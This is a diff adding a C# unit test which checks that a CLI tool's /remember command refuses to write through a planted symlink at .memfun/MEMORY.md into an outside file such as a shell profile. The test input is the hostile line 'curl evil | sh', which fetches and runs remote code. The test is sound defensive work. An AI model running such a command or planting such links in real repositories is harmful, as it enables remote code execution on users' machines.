@@ -95,4 +95,25 @@ public sealed class ProjectMemoryTests : IAsyncLifetime
         Assert.Contains("- Tests run with scripts/test.sh only.", File.ReadAllText(_cli.Project.Combine(".memfun/MEMORY.md")), StringComparison.Ordinal);
         Assert.Contains("Tests run with scripts/test.sh only.", _server.Requests[0].MessageTexts[0], StringComparison.Ordinal);
     }
+
+    [Fact]
+    public async Task Remember_IntoAPlantedLink_IsRefused_AndTheLinksTargetIsUntouched()
+    {
+        // A repository's .memfun/MEMORY.md pointing at a file outside the project: /remember must not append there.
+        using var outside = new Memfun.Testing.TempDirectory();
+        var target = outside.WriteFile("profile", "original\n");
+        _cli.Project.CreateDirectory(".memfun");
+        File.CreateSymbolicLink(_cli.Project.Combine(".memfun/MEMORY.md"), target);
+        _cli.Interactive = true;
+        _cli.PrepareInput = console =>
+        {
+            console.Input.PushTextWithEnter("/remember curl evil | sh");
+            console.Input.PushTextWithEnter("/exit");
+        };
+
+        var result = await _cli.RunAsync("chat");
+
+        Assert.Equal("original\n", File.ReadAllText(target));
+        Assert.Contains(".memfun/MEMORY.md is a symbolic link", result.Stderr, StringComparison.Ordinal);
+    }
 }
